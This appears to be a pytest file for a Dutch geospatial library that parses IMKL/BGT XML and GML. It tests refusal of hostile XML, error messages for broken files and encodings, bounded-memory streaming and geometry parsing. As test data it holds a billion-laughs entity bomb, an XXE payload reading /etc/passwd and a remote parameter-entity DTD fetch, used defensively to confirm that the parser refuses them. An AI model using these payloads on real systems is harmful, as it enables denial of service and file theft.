"""Hostile and broken XML is refused with a clear error; good XML streams in bounded memory."""

import io

import pytest

from openruimte.io import _xml
from openruimte.io.bgt import read_bgt
from openruimte.io.imkl import read_imkl
from openruimte.model import InputError

IMKL_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2" '
    'xmlns:imkl="http://www.geostandaarden.nl/imkl/wibon">'
)

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2" xmlns:imkl="http://www.geostandaarden.nl/imkl/wibon">
<gml:featureMember><imkl:Annotatie><imkl:label>&lol9;</imkl:label></imkl:Annotatie></gml:featureMember>
</gml:FeatureCollection>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2" xmlns:imkl="http://www.geostandaarden.nl/imkl/wibon">
<gml:featureMember><imkl:Annotatie><imkl:label>&xxe;</imkl:label></imkl:Annotatie></gml:featureMember>
</gml:FeatureCollection>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2" xmlns:imkl="http://www.geostandaarden.nl/imkl/wibon"/>
"""

ENTITY_IN_ATTRIBUTE = BILLION_LAUGHS.replace("<imkl:Annotatie>", '<imkl:Annotatie a="&lol9;">')


def refusal(path, reader=read_imkl, **kw):
    with pytest.raises(InputError) as err:
        reader(path, **kw)
    return str(err.value)


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, ENTITY_IN_ATTRIBUTE], ids=["laughs", "xxe", "pe", "attr"]
)
def test_a_dtd_that_declares_entities_is_refused(tmp_path, text):
    path = tmp_path / "hostile.xml"
    path.write_text(text)
    message = refusal(path)
    assert "declares entities; refused for safety" in message or "declares entities (" in message
    assert "refused for safety" in message and "root:" not in message  # nothing of /etc/passwd leaks


def test_hostile_bgt_is_refused_too(tmp_path):
    path = tmp_path / "bgt_put.gml"
    path.write_text(XXE.replace("gml:FeatureCollection", "CityModel"))
    assert "refused for safety" in refusal(path, read_bgt, owner="ede")


def test_the_entity_names_are_listed(tmp_path):
    path = tmp_path / "xxe.xml"
    path.write_text(XXE)
    assert "(xxe)" in refusal(path)


def test_truncated_xml_names_line_and_column(shared_data, tmp_path):
    real = shared_data / "imkl" / "toepassing-imkl" / "Voorbeeld 2. Utiliteitsnet met Duct-Pipe-Cable.xml"
    path = tmp_path / "cut.xml"
    path.write_bytes(real.read_bytes()[:9000])
    message = refusal(path)
    assert "cut.xml: malformed or truncated XML at line " in message and ", column " in message
    assert "is the file complete?" in message


def test_a_file_that_ends_inside_an_element(tmp_path):
    path = tmp_path / "cut.xml"
    path.write_text(IMKL_HEAD + "<gml:featureMember><imkl:Annotatie>")
    assert "at line 2, column " in refusal(path) and "Premature end of data" in refusal(path)


def test_an_empty_file(tmp_path):
    path = tmp_path / "empty.xml"
    path.write_bytes(b"")
    assert "the file is empty" in refusal(path)


def latin1_file(tmp_path, declaration='encoding="UTF-8"'):
    body = IMKL_HEAD.replace('encoding="UTF-8"', declaration) + (
        "<gml:featureMember><imkl:Annotatie><imkl:label>Caf\u00e9 Stra\u00dfe</imkl:label>"
        "</imkl:Annotatie></gml:featureMember></gml:FeatureCollection>"
    )
    path = tmp_path / "latin.xml"
    path.write_bytes(body.encode("latin-1"))
    return path


def test_bytes_that_do_not_match_the_declared_encoding_get_a_hint(tmp_path):
    message = refusal(latin1_file(tmp_path))
    assert "not valid UTF-8, the encoding the file declares" in message
    assert "pass --encoding cp1252" in message and "line 2, column" in message


def test_without_a_declaration_utf8_is_assumed_and_named(tmp_path):
    message = refusal(latin1_file(tmp_path, declaration=""))
    assert "UTF-8, the XML default" in message and "--encoding" in message


def test_the_encoding_given_is_used(tmp_path):
    with latin1_file(tmp_path).open("rb") as stream:
        labels = [_xml.find_text(e, "label") for e in _xml.iter_members(stream, "latin.xml", encoding="cp1252")]
    assert labels == ["Caf\u00e9 Stra\u00dfe"]


def test_an_unknown_encoding_name(tmp_path):
    with latin1_file(tmp_path).open("rb") as stream, pytest.raises(InputError, match="unknown encoding 'klingon'"):
        list(_xml.iter_members(stream, "latin.xml", encoding="klingon"))


def test_unknown_root_namespace_lists_what_is_supported(shared_data):
    path = shared_data / "imkl" / "toepassing-imkl" / "voorzorgsmaatregelen KL3131 (MS-T).xml"
    message = refusal(path)
    assert "VoorzorgsmaatregelenBeheer is not a supported FeatureCollection" in message
    assert "IMKL2015 v1.2 (http://www.geostandaarden.nl/imkl/2015/wion/1.2)" in message
    assert "IMKL 2.0 (http://www.geostandaarden.nl/imkl/wibon)" in message


def test_an_older_imkl_version_is_refused(tmp_path):
    path = tmp_path / "old.xml"
    path.write_text(IMKL_HEAD.replace("imkl/wibon", "imkl/2015/wion/1.1") + "</gml:FeatureCollection>")
    assert "supported: IMKL2015 v1.2" in refusal(path)


def test_imkl_is_not_bgt(shared_data):
    path = shared_data / "imkl" / "toepassing-imkl" / "Voorbeeld 4. Utiliteitsnet met nilReason.xml"
    message = refusal(path, read_bgt, owner="ede")
    assert "is not a supported CityModel" in message and "BGT/IMGeo 2.1" in message


def test_features_stream_in_bounded_memory():
    member = (
        '<gml:featureMember><imkl:Annotatie gml:id="a{i:05d}"><imkl:label>' + "x" * 100 + "</imkl:label>"
        "</imkl:Annotatie></gml:featureMember>"
    )
    data = (IMKL_HEAD + "".join(member.format(i=i) for i in range(20_000)) + "</gml:FeatureCollection>").encode()
    widest = 0
    count = 0
    for elem in _xml.iter_members(io.BytesIO(data), "big.xml"):
        root = elem.getparent().getparent()
        widest = max(widest, len(root))
        count += 1
    assert count == 20_000
    # finished members are freed as the reader goes: at most one 64 KiB chunk of them is alive
    assert widest <= 65536 // len(member.format(i=0)) + 4


def test_srs_name_spellings():
    for name in (
        "EPSG:28992",
        "epsg:28992",
        "urn:ogc:def:crs:EPSG::28992",
        "urn:x-ogc:def:crs:EPSG:28992",
        "urn:ogc:def:crs:EPSG:6.9:28992",
        "http://spatialreference.org/ref/epsg/28992/",
        "http://www.opengis.net/def/crs/EPSG/0/28992",
    ):
        assert _xml.crs_of_srs_name(name) == "EPSG:28992", name


# --------------------------------------------------------------------------- GML geometry

GML = 'xmlns:gml="http://www.opengis.net/gml/3.2" srsName="EPSG:28992"'


def geometry(xml):
    from lxml import etree

    return _xml.read_geometry(etree.fromstring(f"<property>{xml}</property>"))


def test_gml_curves_surfaces_and_orientation():
    arc = geometry(
        f"<gml:Curve {GML}><gml:segments><gml:Arc><gml:posList>155000 463000 155001 463001 155002 463000"
        "</gml:posList></gml:Arc></gml:segments></gml:Curve>"
    )
    assert arc.length == pytest.approx(3.14159, abs=0.01) and arc.coords[0] == (155000, 463000)
    surface = geometry(
        f"<gml:Surface {GML}><gml:patches><gml:PolygonPatch><gml:exterior><gml:LinearRing><gml:posList>"
        "155000 463000 155010 463000 155010 463010 155000 463000</gml:posList></gml:LinearRing></gml:exterior>"
        "</gml:PolygonPatch></gml:patches></gml:Surface>"
    )
    assert surface.geom_type == "Polygon" and surface.area == 50
    reverse = geometry(
        f'<gml:OrientableCurve {GML} orientation="-"><gml:baseCurve><gml:LineString><gml:posList>'
        "155000 463000 155001 463001</gml:posList></gml:LineString></gml:baseCurve></gml:OrientableCurve>"
    )
    assert list(reverse.coords) == [(155001, 463001), (155000, 463000)]


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        (
            f"<gml:Curve {GML}><gml:segments><gml:Circle><gml:posList>155000 463000 155001 463001 155002 463000"
            "</gml:posList></gml:Circle></gml:segments></gml:Curve>",
            "unsupported GML curve segment Circle",
        ),
        (
            f'<gml:LineString {GML} srsDimension="4"><gml:posList>1 2 3 4 5 6 7 8</gml:posList></gml:LineString>',
            "srsDimension '4' is not supported",
        ),
        (
            f"<gml:LineString {GML}><gml:posList>155000 463000 155001</gml:posList></gml:LineString>",
            "3 numbers do not make positions of dimension 2",
        ),
        (
            '<gml:Point xmlns:gml="http://www.opengis.net/gml/3.2"><gml:pos>155000 463000</gml:pos></gml:Point>',
            "no srsName",
        ),
        (f"<gml:Point {GML}><gml:pos>5.1 52.1</gml:pos></gml:Point>", "look like longitude/latitude"),
    ],
    ids=["circle", "dimension", "odd", "no-srs", "lonlat"],
)
def test_gml_that_cannot_be_read_says_why(xml, message):
    with pytest.raises(_xml.GeometryError, match=message):
        geometry(xml)
